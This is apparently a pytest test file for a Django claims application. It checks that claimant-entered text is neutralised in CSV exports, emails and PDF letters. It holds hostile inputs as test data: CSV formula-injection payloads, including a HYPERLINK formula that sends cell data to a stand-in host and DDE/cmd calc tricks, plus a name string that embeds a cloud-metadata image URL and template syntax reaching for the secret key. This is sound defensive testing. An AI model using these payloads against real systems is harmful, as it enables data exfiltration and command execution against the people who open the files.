"""Claimant text that reaches what staff and claimants receive: spreadsheets (formula
injection), emails and letters (markup, template syntax, header injection)."""

from __future__ import annotations

import csv
import io

import pytest
from django.conf import settings
from django.core import mail
from django.test import Client
from django.urls import reverse

from claims.delivery.emails import status_update_deliver
from claims.domain import roles
from claims.domain.stages import LetterKind, Stage
from claims.models import Claim, StatusUpdate
from tests.support.claimant import CONTACT, fill_draft, start_claim
from tests.support.factories import RegisterEntryFactory, SchemeFactory, claim_in_stage, staff
from tests.support.letters import pdf_text, render

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '=DDE("cmd";"/C calc";"!A0")',
]
HOSTILE_NAME = '<img src="http://169.254.169.254/x">{{ settings.SECRET_KEY }}{% now "Y" %}'


def read_csv(response) -> list[list[str]]:
    body = b"".join(response.streaming_content).decode("utf-8").lstrip("\ufeff")
    return list(csv.reader(io.StringIO(body)))


def inert(cell: str) -> bool:
    return not cell.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_formulas_in_any_claimant_field_are_inert_in_every_export(client, people, attacker):
    claims = []
    for formula in FORMULAS:
        claim = claim_in_stage(Stage.SUBMITTED, people=people)
        # As long as each column allows (PostgreSQL enforces the lengths).
        Claim.objects.filter(pk=claim.pk).update(
            full_name=formula, phone=formula[:40], postcode=formula[:10]
        )
        claims.append(claim)
        RegisterEntryFactory(scheme=claim.scheme, full_name=formula, address=formula)
    client.force_login(staff(roles.SCHEME_ADMINISTRATOR))

    rows = read_csv(
        client.post(
            reverse("admin:claims_claim_changelist"),
            {"action": "export_csv", "_selected_action": [c.pk for c in claims]},
        )
    )
    for row in rows[1:]:
        attacker.attempt(
            f"formula injection into the claims export: {row[4]!r}",
            lambda row=row: row,
            lambda row: all(inert(cell) for cell in row),
        )
    register = read_csv(client.get(reverse("admin:claims_registerentry_export")))
    for row in register[1:]:
        attacker.attempt(
            f"formula injection into the register export: {row[2]!r}",
            lambda row=row: row,
            lambda row: all(inert(cell) for cell in row),
        )
    assert len(rows) == len(FORMULAS) + 1


def test_hostile_text_in_a_claim_is_text_in_its_emails(attacker):
    client = Client()
    start_claim(client, SchemeFactory())
    client.post("/claim/contact/", {**CONTACT, "full_name": HOSTILE_NAME})
    fill_draft(client)
    client.post("/claim/what-happened/", {"what_happened": HOSTILE_NAME})
    mail.outbox.clear()

    def submit():
        client.post("/claim/check/", {"statement_of_truth": "on"})
        for update in StatusUpdate.objects.all():
            status_update_deliver(update.pk)
        return mail.outbox

    def escaped(outbox) -> bool:
        if not outbox:
            return False
        for message in outbox:
            html = message.alternatives[0][0] if message.alternatives else ""
            if '<img src="http' in html or settings.SECRET_KEY in html + message.body:
                return False
            if "\n" in message.subject or message.to != [CONTACT["email"]] or message.bcc:
                return False
        return True

    attacker.attempt("markup and template syntax in a name, into emails", submit, escaped)


@pytest.mark.parametrize("kind", [LetterKind.ACKNOWLEDGEMENT])
def test_hostile_text_in_a_claim_is_text_in_its_letters(attacker, people, kind):
    claim = claim_in_stage(Stage.SUBMITTED, people=people)
    Claim.objects.filter(pk=claim.pk).update(full_name=HOSTILE_NAME, address=HOSTILE_NAME)
    claim.refresh_from_db()

    def printed_as_text(rendered) -> bool:
        text = pdf_text(rendered.pdf).replace(" ", "")
        return (
            rendered.fetched == ()
            and '<img src="http' not in rendered.html
            and settings.SECRET_KEY not in text
            and "{{settings.SECRET_KEY}}" in text
        )

    attacker.attempt(
        f"markup, a URL and template syntax into the {kind} letter",
        lambda: render(claim, kind),
        printed_as_text,
    )
